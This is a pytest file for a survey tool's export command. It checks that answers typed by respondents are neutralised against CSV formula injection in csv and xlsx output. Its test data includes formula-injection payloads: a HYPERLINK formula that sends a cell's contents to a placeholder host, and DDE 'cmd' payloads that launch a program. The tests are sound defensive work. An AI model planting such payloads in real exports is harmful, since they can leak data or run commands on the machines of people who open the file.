"""Exports opened in a spreadsheet: a respondent's text never runs as a formula (CSV injection).

A respondent takes the packaged interview in the terminal (``matang interview``) and types text
that Excel and LibreOffice would run as formulas (``=HYPERLINK(…)``, ``-2+3+cmd|…``, ``@SUM(…)``,
``+62…``), an error value (``#N/A``) and a plain negative number. ``matang export`` then writes
csv, csv-wide and xlsx; every file is read back as a spreadsheet would read it.
"""

from __future__ import annotations

import csv
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
import yaml

from .conftest import TEST_FLOWS
from .test_research_support import answer_line

MATANG = Path(sys.executable).with_name("matang")
CODE = "formula-uji"
TYPED = {
    "organisation": '=HYPERLINK("http://contoh.invalid/x?d="&A1,"Klik di sini")',
    "unit": "+62 812 3456 7890",
    "l2_example": "-2+3+cmd|' /C calc'!A0",
    "l3_followup_example": "@SUM(1+1)*cmd|' /C calc'!A0",
    "l4_example": "#N/A",
    "main_challenge": "-3",
    "anything_else": "Tidak ada - semuanya = baik @kantor",
}
PLAIN = "Tidak ada catatan tambahan dari unit kami untuk bagian ini."
"""Typed for the other open questions (and, for a thin typed answer, its probe repeats the value)."""
RUNS_AS_FORMULA = {"organisation", "unit", "l2_example", "l3_followup_example"}


def matang(*args: str, stdin: str = "", cwd: Path | None = None) -> subprocess.CompletedProcess:
    env = {k: v for k, v in os.environ.items() if not k.startswith("MATANG_")}
    return subprocess.run([str(MATANG), *args], capture_output=True, text=True, timeout=120, input=stdin, env=env,
                          cwd=cwd)


def interview_lines() -> list[str]:
    """What the respondent types: consent, then an answer to every question asked (TYPED for text)."""
    from interview_flows.answers import parse_text_answer
    from interview_flows.engine import Interview
    from interview_flows.loader import load_flow

    engine = Interview(load_flow("ogmm-social-media"))
    session = engine.new_session("id")
    engine.start(session)
    lines = ["ya"]
    while session.state == "asking":
        q = engine.current(session)
        if q is None:  # the final check: send
            lines.append("kirim")
            engine.finish(session)
            break
        line = TYPED.get(q.id, PLAIN) if q.type == "text" else answer_line(q, 0.95, "")
        lines.append(line)
        if q.answerable:
            engine.answer(session, parse_text_answer(q, line, "id"))
        else:
            engine.skip(session)
    return lines


@pytest.fixture(scope="module")
def study_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A study with one finished interview full of formula-like text, taken through the commands."""
    tmp = tmp_path_factory.mktemp("formulas")
    db = tmp / "matang.db"
    made = matang("study", "create", "--name", "Uji rumus", "--code", CODE, "--db", str(db), cwd=tmp)
    assert made.returncode == 0, made.stderr
    took = matang("interview", "--study", CODE, "--user", "sari", "--db", str(db),
                  stdin="\n".join(interview_lines()) + "\n", cwd=tmp)
    assert took.returncode == 0, took.stderr
    return db


def export(db: Path, fmt: str, out: Path, *extra: str) -> subprocess.CompletedProcess:
    done = matang("export", "--study", CODE, "--format", fmt, "--out", str(out), "--db", str(db), *extra,
                  cwd=out.parent)
    assert done.returncode == 0, done.stderr
    return done


def read_rows(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def neutralised(text: str) -> str:
    return "'" + text


@pytest.mark.parametrize("fmt", ["csv", "csv-wide"])
def test_csv_text_a_spreadsheet_would_run_gets_a_leading_quote_and_nothing_else_changes(study_db, tmp_path, fmt):
    safe, raw = tmp_path / "safe.csv", tmp_path / "raw.csv"
    export(study_db, fmt, safe)
    export(study_db, fmt, raw, "--raw")
    safe_rows, raw_rows = read_rows(safe), read_rows(raw)
    # --raw writes the answers exactly as typed.
    cells = {cell for row in raw_rows for cell in row}
    assert set(TYPED.values()) <= cells
    # By default: the same table, a quote before each text a spreadsheet would run, nothing more.
    assert [len(r) for r in safe_rows] == [len(r) for r in raw_rows]
    changed = set()
    for safe_row, raw_row in zip(safe_rows, raw_rows, strict=True):
        for s, r in zip(safe_row, raw_row, strict=True):
            if s != r:
                assert s == neutralised(r) and r[:1] in "=+-@", (s, r)
                changed.add(r)
            # (An empty cell, such as an answer without themes or recordings, or a probe column of an
            # answer that needed no probe, is no formula.)
            assert not s or s[:1] not in "=+-@" or s.lstrip("-").replace(".", "", 1).isdigit(), s
    assert changed == {TYPED[q] for q in RUNS_AS_FORMULA}
    # A plain negative number is a number to a spreadsheet, not a formula: left as it is.
    assert TYPED["main_challenge"] in {c for row in safe_rows for c in row}
    header = safe_rows[0]
    if fmt == "csv":
        by_question = {row[header.index("question_id")]: row for row in safe_rows[1:]}
        for qid, typed in TYPED.items():
            row = by_question[qid]
            shown = neutralised(typed) if qid in RUNS_AS_FORMULA else typed
            assert row[header.index("value")] == row[header.index("label")] == shown, qid
            assert row[header.index("times_changed")] == "0"
    else:
        [row] = safe_rows[1:]
        assert row[header.index("organisation")] == neutralised(TYPED["organisation"])
        assert row[header.index("unit")] == neutralised(TYPED["unit"])
        assert row[header.index("main_challenge")] == "-3"
        assert row[header.index("session")] == "1"


def test_xlsx_stores_every_answer_as_text_never_as_a_formula_or_an_error(study_db, tmp_path):
    """openpyxl turns a str starting with "=" into a formula and "#N/A" into an error value."""
    from openpyxl import load_workbook

    out = tmp_path / "book.xlsx"
    export(study_db, "xlsx", out)
    with zipfile.ZipFile(out) as zf:
        sheets = [zf.read(n).decode() for n in zf.namelist() if n.startswith("xl/worksheets/sheet")]
    assert sheets and not any("<f>" in s or 't="e"' in s for s in sheets)
    long = load_workbook(out)["long"]
    header = [c.value for c in long[1]]
    cells = {row[header.index("question_id")].value: row[header.index("value")] for row in long.iter_rows(min_row=2)}
    for qid, typed in TYPED.items():
        assert cells[qid].value == typed and cells[qid].data_type == "s", qid  # exactly as typed, no quote


@pytest.mark.parametrize("fmt", ["xlsx", "jsonl", "transcripts", "qdpx"])
def test_raw_is_refused_for_formats_that_already_write_text_verbatim(study_db, tmp_path, fmt):
    out = tmp_path / f"x.{fmt}"
    done = matang("export", "--study", CODE, "--format", fmt, "--out", str(out), "--raw", "--db", str(study_db),
                  cwd=tmp_path)
    assert done.returncode == 2 and "--raw" in done.stderr and not out.exists()


def test_negative_numbers_in_numeric_columns_are_left_alone(tmp_path):
    """A number answer of -3 or -2.5 is written as a number, without a quote."""
    from bot.interviews import Interviews
    from bot.research.exports import export_study
    from bot.research.studies import create_study
    from bot.store import Store
    from interview_flows.loader import parse_flow, register_flow

    doc = yaml.safe_load((TEST_FLOWS / "small.yaml").read_text(encoding="utf-8"))
    doc["id"] = "signed-test"
    for q in doc["questions"]:
        if q["id"] == "team_size":
            q.update({"min": -50, "max": 50, "integer": False})
    flow = register_flow(parse_flow(yaml.safe_dump(doc)))
    store = Store.open(tmp_path / "m.db")
    try:
        create_study(store, "Bertanda", flow_id=flow.id, code="signed01")
        interviews = Interviews(store)
        for who, size in (("a", -3), ("b", -2.5)):
            record = interviews.begin(store.respondent("terminal", who), flow, "id", "terminal", study_code="signed01")
            interviews.act(record, "skip")  # the note
            interviews.act(record, "answer", "yes")
            interviews.act(record, "answer", size)
        for fmt in ("csv", "csv-wide"):
            export_study(store, "signed01", fmt, tmp_path / f"{fmt}.csv")
    finally:
        store.close()
    long = read_rows(tmp_path / "csv.csv")
    header = long[0]
    sizes = [(r[header.index("value")], r[header.index("label")]) for r in long if r[header.index("question_id")] ==
             "team_size"]
    assert sorted(sizes) == [("-2.5", "-2.5"), ("-3", "-3")]
    wide = read_rows(tmp_path / "csv-wide.csv")
    assert sorted(r[wide[0].index("team_size")] for r in wide[1:]) == ["-2.5", "-3"]
